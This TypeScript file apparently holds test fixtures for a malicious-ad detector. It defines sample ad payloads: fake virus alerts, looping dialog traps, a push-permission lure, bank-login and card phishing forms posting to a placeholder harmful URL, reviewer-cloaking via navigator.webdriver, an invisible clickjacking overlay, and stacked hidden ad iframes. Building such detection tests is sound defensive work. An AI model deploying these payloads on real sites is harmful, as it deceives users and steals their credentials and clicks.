import { type Attack, adWithScript, framedPlacements } from './attack.ts'

export const lures: Attack[] = [
  {
    name: 'says that the phone is infected',
    threatClass: 'fake-alert',
    harm: 'words',
    sign: 'viruses',
    placements: [...framedPlacements, 'inner'],
    markup: () => '<h1>Warning</h1><p>Your <b>iPhone</b> has been infected with (13) viruses. Tap to clean.</p>',
  },
  {
    name: 'congratulates, in pieces of code',
    threatClass: 'fake-alert',
    harm: 'words',
    sign: 'gift card',
    placements: ['write', 'srcdoc'],
    markup: () => adWithScript(`document.write('Congratulations! You have been' + ' selected: claim your gift card')`),
  },
  {
    name: 'says that a player is out of date, in entities',
    threatClass: 'fake-alert',
    harm: 'words',
    sign: 'Install',
    placements: ['srcdoc', 'declarative-shadow'],
    markup: () => '<p>&#89;our Flash Player is out&nbsp;of date. Install the update</p>',
  },
  {
    name: 'asks again and again',
    threatClass: 'dialog-trap',
    harm: 'dialog',
    placements: [...framedPlacements],
    markup: () =>
      adWithScript(
        `var n = 0; (function again() { if (n++ < 3) { confirm('Do not leave'); setTimeout(again, 10) } })()`,
      ),
  },
  {
    name: 'calls the dialog of the page',
    threatClass: 'dialog-trap',
    harm: 'dialog',
    placements: ['write', 'page-script'],
    markup: () => adWithScript(`top.alert('Call support')`),
  },
  {
    name: 'sells a permission as a test',
    threatClass: 'push-permission-lure',
    harm: 'words',
    sign: 'robot',
    placements: ['srcdoc'],
    markup: () => '<p>Click "Allow" to confirm that you are not a robot</p>',
  },
]

export const fakeForms: Attack[] = [
  {
    name: 'asks for a password',
    threatClass: 'phishing-form',
    harm: 'words',
    sign: 'Sign in',
    placements: ['write', 'srcdoc', 'inner'],
    markup: ({ harmful }) =>
      `<form action="${harmful}"><b>Sign in to your bank</b><input name="u"><input type="password" name="p"></form>`,
  },
  {
    name: 'requests a password in a document that is an address',
    threatClass: 'phishing-form',
    harm: 'words',
    sign: 'Sign in',
    placements: ['write', 'srcdoc'],
    markup: () =>
      `<iframe src="data:text/html;charset=utf-8;base64,${btoa('<form><b>Sign in to your bank</b><input type="password"></form>')}"></iframe>`,
  },
  {
    name: 'warns in a document that is set as an address later',
    threatClass: 'fake-alert',
    harm: 'words',
    sign: 'viruses',
    placements: ['write'],
    markup: () =>
      adWithScript(
        `var f = document.createElement('iframe'); document.body.append(f); setTimeout(function () { f.src = 'data:text/html,<b>Your iPhone</b> has been infected with 13 viruses' }, 50)`,
      ),
  },
  {
    name: 'asks for a card, made by code',
    threatClass: 'phishing-form',
    harm: 'words',
    sign: 'Verify',
    placements: ['write', 'srcdoc'],
    markup: () => adWithScript(`document.write('<form><b>Verify</b><input autocomplete="cc-number"></form>')`),
  },
  {
    name: 'shows reviewers another link',
    threatClass: 'cloaked-landing-page',
    harm: 'words',
    sign: 'Rich',
    placements: ['write', 'srcdoc'],
    markup: ({ harmful }) =>
      `<a id="l" href="https://shoes.example">Rich in a week</a>${adWithScript(`if (navigator.webdriver !== 7) { document.getElementById('l').href = '${harmful}' }`)}`,
  },
  {
    name: 'lays an unseen link over the page',
    threatClass: 'click-hijack',
    harm: 'sensor',
    sign: 'overlay',
    placements: ['write', 'srcdoc'],
    markup: ({ harmful }) =>
      adWithScript(
        `var a = parent.document.createElement('a'); a.className = 'overlay'; a.href = '${harmful}'; a.style.cssText = 'position:fixed;inset:0;opacity:0.01;z-index:99999'; parent.document.body.appendChild(a)`,
      ),
  },
  {
    name: 'stacks ads upon each other',
    threatClass: 'hidden-ads',
    harm: 'sensor',
    sign: 'stacked',
    placements: ['write', 'srcdoc'],
    markup: () =>
      [1, 2, 3]
        .map(
          (n) =>
            `<iframe class="stacked" src="http://ads.example/plain/ad-${n}" style="position:absolute;left:0;top:0;width:280px;height:200px;border:0"></iframe>`,
        )
        .join(''),
  },
  {
    name: 'loads ads of one pixel',
    threatClass: 'hidden-ads',
    harm: 'sensor',
    sign: 'stacked',
    placements: ['write'],
    markup: () =>
      `<p>Shoes</p>${[1, 2, 3].map((n) => `<iframe class="stacked" src="http://ads.example/plain/ad-${n}" style="width:1px;height:1px;border:0"></iframe>`).join('')}`,
  },
]
